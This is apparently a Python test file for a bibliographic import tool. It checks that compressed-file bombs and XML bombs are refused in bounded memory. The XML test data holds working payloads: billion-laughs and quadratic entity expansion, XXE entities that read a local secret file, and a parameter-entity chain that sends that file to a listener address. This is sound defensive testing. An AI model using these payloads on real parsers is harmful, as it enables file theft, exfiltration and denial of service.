"""Small files that would become huge: refused in one line that names the file, or counted, in bounded memory.

Every import is a process of its own, whose largest memory is measured. A listener and a file with a secret show that nothing
outside the file is read.
"""

import bz2
import gzip
import lzma
import shutil
from collections.abc import Callable
from pathlib import Path

import zstandard

from ..test_bad_input import MB, MEMORY, Import, run_import

SECRET = "the-secret-of-another-file"

CONTAINERS: dict[str, tuple[Callable[[bytes], bytes], int]] = {
    "gz": (gzip.compress, 1200),
    "zst": (zstandard.ZstdCompressor().compress, 1200),
    "xz": (lzma.compress, 600),
    "bz2": (bz2.compress, 100),
    "gz in gz": (lambda data: gzip.compress(gzip.compress(data)), 1200),
    "zst in gz": (lambda data: gzip.compress(zstandard.ZstdCompressor().compress(data)), 1200),
}
"""How a piece of ten megabytes is packed, and how many megabytes of them: fewer where unpacking is slow."""

CONTENTS = {
    "one line": ("a.jsonl", b'{"id": "a", "title": "', b"x"),
    "one line after a good one": ("a.jsonl", b'{"id": "a", "title": "T"}\n', b"x"),
    "empty lines": ("a.jsonl", b'{"id": "a", "title": "T"}\n', b"\n"),
    "lines that are no records": ("a.jsonl", b'{"id": "a", "title": "T"}\n', b"[" + b"x" * 65_535 + b"\n"),
    "zeros": ("a.jsonl", b"", b"\0"),
    "one document": ("a.json", b'[{"paperId": null, "title": "', b"x"),
    "an open list": ("a.json", b'{"message": {"items": [{"DOI": "10.1/a"}', b","),
    "BibTeX": ("a.bib", b"@article{a, title={", b"x "),
    "open braces": ("a.bib", b"@article{a, title={", b"{"),
    "RIS": ("a.ris", b"TY  - JOUR\nT1  - ", b"x\n"),
    "a table": ("a.csv", b"id,title\na,T\nb,", b"x"),
    "a quoted cell": ("a.csv", b'id,title\na,T\nb,"', b"x" * 1023 + b"\n"),
    "quotes that open on every line": ("a.csv", b"id,title\na,T\n", b'x","' + b"x" * 1020 + b"\n"),
    "citations": ("citations.jsonl", b'{"citingcorpusid": 1, "citedcorpusid": 2}\n', b"x"),
    "XML text": ("a.xml", b"<PubmedArticleSet><PubmedArticle>", b"x "),
    "XML elements": ("a.xml", b"<PubmedArticleSet><PubmedArticle>", b"<a/>"),
    "an XML comment": ("a.xml", b"<PubmedArticleSet><!--", b"x>"),
    "an XML prologue": ("a.xml", b"<?xml version='1.0'?>", b"<!-- -->"),
}


def checked(folder: Path, name: str, *options: str) -> Import:
    """An import: one line that names the file and nothing left, or a corpus whose account adds up; in bounded memory."""
    shutil.rmtree(folder / "corpus", ignore_errors=True)
    ran = run_import(folder / "corpus", folder / name, *options)
    assert ran.memory < MEMORY, f"{ran.memory / MB:.0f} MB"
    if ran.status:
        ran.assert_refused("nothing to write: " if "nothing to write: " in ran.err else name)
        return ran
    for kind in ran.report["records"]:
        ran.rejected(kind)
    leaked = [path for path in ran.output.rglob("*") if path.is_file() and SECRET.encode() in path.read_bytes()]
    assert not leaked, f"the secret is in {leaked[0]}"
    return ran


def test_compressed_bombs(trial, tmp_path):
    """Files that unpack to a thousand times their size, in every packing and format, are refused or counted in bounded memory."""
    tries, largest = [(container, content) for content in CONTENTS for container in CONTAINERS], 0
    if not trial.is_whole:  # tables are slow to read
        tries = [one for one in tries if CONTENTS[one[1]][0] != "a.csv"]
    for container, content in trial.some(tries, quick=6):
        pack, megabytes = CONTAINERS[container]
        name, start, piece = CONTENTS[content]
        name = f"{name}.{container.rpartition(' ')[2]}"
        packed = [pack(start), pack(piece * (10 * MB // len(piece)))]
        (tmp_path / name).write_bytes(packed[0] + packed[1] * (megabytes // 10))
        with trial.attempt(f"{content} in {container}"):
            largest = max(largest, checked(tmp_path, name).memory)
        (tmp_path / name).unlink()
    trial.facts["largest memory, MB"] = round(largest / MB)


XML = {
    "arxiv": ("feed", '<feed xmlns:a="http://arxiv.org/x"><entry><id>http://arxiv.org/abs/0704.0001</id><title>', "</title></entry></feed>"),
    "pubmed": ("PubmedArticleSet", "<PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>7</PMID><Article><ArticleTitle>",
               "</ArticleTitle></Article></MedlineCitation></PubmedArticle></PubmedArticleSet>"),
    "jats": ("article", "<article><front><article-meta><title-group><article-title>", "</article-title></title-group></article-meta></front></article>"),
    "grobid_tei": ("TEI", '<TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader><fileDesc><titleStmt><title>', "</title></titleStmt></fileDesc></teiHeader></TEI>"),
    "acl_anthology": ("collection", '<collection id="P19"><volume id="1"><meta/><paper id="1"><title>', "</title></paper></volume></collection>"),
}  # fmt: skip
"""Format -> outermost element, and what stands before and after a title."""


def _entities(count: int, times: int, inner: str = "&l0;") -> str:
    """Entities, each some of the one before: `count` times nested."""
    first = f'<!ENTITY l1 "{inner * times}">'
    return first + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * times}">' for n in range(2, count))


DECLARED = {
    "billion laughs": ('<!ENTITY l0 "lol">' + _entities(10, 10), "&l9;"),
    "a hundred levels of two": ('<!ENTITY l0 "lol">' + _entities(100, 2), "&l99;"),
    "quadratic": (f'<!ENTITY a "{"x" * 50_000}">', "&a;" * 50_000),
    "quadratic below the parser's own limit": (f'<!ENTITY a "{"x" * 290}">', "&a;" * 1_200_000),
    "an entity of itself": ('<!ENTITY a "&a;&a;">', "&a;"),
    "entities in attributes": (f'<!ENTITY a "{"x" * 290}">', ('<i b="' + "&a;" * 4000 + '"/>') * 300),
    "long default attributes": (f'<!ATTLIST i b CDATA "{"x" * 300_000}">', "<i/>" * 5000),
    "short default attributes": (f'<!ATTLIST i b CDATA "{"x" * 9_000}">', "<i/>" * 200_000),
    "default attributes of entities": (f'<!ENTITY a "{"x" * 1000}"><!ATTLIST i b CDATA "{"&a;" * 9}">', "<i/>" * 200_000),
    "default namespaces": (f'<!ATTLIST i xmlns:p CDATA "{"x" * 9_000}">', "".join(f"<i><p:a{n}/></i>" for n in range(50_000))),
    "a file": ('<!ENTITY a SYSTEM "file://{folder}/secret">', "A&a;"),
    "a file without a scheme": ('<!ENTITY a SYSTEM "{folder}/secret">', "A&a;"),
    "a file beside it": ('<!ENTITY a SYSTEM "secret">', "A&a;"),
    "an address": ('<!ENTITY a SYSTEM "http://127.0.0.1:{port}/">', "A&a;"),
    "a public name": ('<!ENTITY a PUBLIC "-//X//Y//EN" "http://127.0.0.1:{port}/">', "A&a;"),
    "a parameter entity": ('<!ENTITY % p SYSTEM "http://127.0.0.1:{port}/x.dtd"> %p;', "A"),
    "a parameter entity of a file": ('<!ENTITY % p SYSTEM "file://{folder}/x.dtd"> %p;', "A&a;"),
    "a parameter entity that sends a file": (
        '<!ENTITY % f SYSTEM "file://{folder}/secret"><!ENTITY % p "<!ENTITY a SYSTEM \'http://127.0.0.1:{port}/%f;\'>"> %p;', "A&a;"),
    "parameter entities within each other": ("".join(f'<!ENTITY % p{n} "{f"&#37;p{n - 1};" * 10}">' for n in range(1, 12)) + "%p11;", "A"),
    "an entity behind a long prologue": ("<!-- -->" * 100_000 + f'<!ENTITY a "{"x" * 290}">', "&a;" * 1_200_000),
    "a long comment in the prologue": (f"<!--{'x>' * 10 * MB}-->", "A"),
    "a thousand thousand entities": ("".join(f'<!ENTITY a{n:x} "{n}">' for n in range(1_000_000)), "&a1;"),
    "a foreign notation": ('<!NOTATION n SYSTEM "http://127.0.0.1:{port}/"><!ENTITY a SYSTEM "http://127.0.0.1:{port}/" NDATA n>', "A"),
}  # fmt: skip
"""What a DTD inside the file declares, and a title."""

TITLES = {
    "deep": "<i>" * 400_000 + "x" + "</i>" * 400_000,
    "a huge attribute": f'<i b="{"x" * 40 * MB}"/>',
    "a huge attribute with brackets": f'<i b="{"x>" * 20 * MB}"/>',
    "many attributes in one tag": "<i " + " ".join(f'a{n:x}=""' for n in range(3_000_000)) + "/>",
    "many attributes in many tags": ("<i " + " ".join(f'a{n}=""' for n in range(1000)) + "/>") * 5000,
    "many names": "".join(f"<a{n:x}/>" for n in range(1_900_000)),
    "a long namespace and many names": f'<b xmlns:p="{"u" * 300_000}">' + "".join(f"<p:a{n}/>" for n in range(5000)) + "</b>",
    "a long namespace and many attributes": f'<b xmlns:p="{"u" * 300_000}" ' + " ".join(f'p:a{n}=""' for n in range(5000)) + "/>",
    "many namespaces": "".join(f'<b xmlns:p{n}="{"u" * 100}{n}">' for n in range(100_000)) + "</b>" * 100_000,
    "a long comment": f"<!--{'x>' * 20 * MB}-->",
    "a long instruction": f"<?x {'x>' * 20 * MB}?>",
    "a long name": f"<{'x' * 20 * MB}/>",
    "long text": "x &amp; " * 6 * MB,
    "long CDATA": f"<![CDATA[{'<x>' * 15 * MB}]]>",
    "an include": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{folder}/secret" parse="text"/>A',
    "a style sheet": '<?xml-stylesheet href="http://127.0.0.1:{port}/"?>A',
}  # fmt: skip


def test_xml_bombs(trial, tmp_path, services):
    """Entities, default attributes, namespaces and nesting never swell, and no entity reads another file or an address."""
    (tmp_path / "secret").write_text(SECRET)
    (tmp_path / "x.dtd").write_text(f'<!ENTITY a "{SECRET}">')
    bombs = {**DECLARED, **{name: ("", title) for name, title in TITLES.items()}}
    tries, largest, service = [(name, format) for name in bombs for format in XML], 0, services[0]
    for name, format in trial.some(tries, quick=20, seed=1):
        with trial.attempt(f"{name} in {format}"):
            root, before, after = XML[format]
            declared, title = bombs[name]
            document = f"<!DOCTYPE {root} [{declared}]>" if declared else ""
            document += f"{before}{title}{after}"
            places = document.replace("{folder}", str(tmp_path)).replace("{port}", str(service.port))
            (tmp_path / "a.xml").write_text(places)
            largest = max(largest, checked(tmp_path, "a.xml", "--format", format).memory)
            assert not service.received, "the listener was contacted"
    trial.facts |= {"largest memory, MB": round(largest / MB), "kinds": len(bombs), "formats": len(XML)}


def test_plain_records_before_a_bomb(trial, tmp_path):
    """What a file may swell to does not grow with what stands before it."""
    plain = "<PubmedArticle><MedlineCitation><PMID>{}</PMID><Article><ArticleTitle>" + "A title " * 100
    plain += "</ArticleTitle></Article></MedlineCitation></PubmedArticle>"
    bombs = {
        "text": "&a;" * 1_000_000,
        "attributes": '<i b="&a;&a;"/>' * 100_000,
        "one tag": '<i b="' + "&a;" * 300_000 + '"/>',
    }
    for size in (400, 5_000, 60_000):
        for name, inside in bombs.items():
            with trial.attempt(f"{name}, entities of {size:,} characters"):
                records = "".join(map(plain.format, range(1, 5_000))) + plain.format(f"7{inside}")
                declared = f'<!DOCTYPE PubmedArticleSet [<!ENTITY a "{"x" * size}">]>'
                (tmp_path / "a.xml").write_text(f"{declared}<PubmedArticleSet>{records}</PubmedArticleSet>")
                assert checked(tmp_path, "a.xml").status == 2
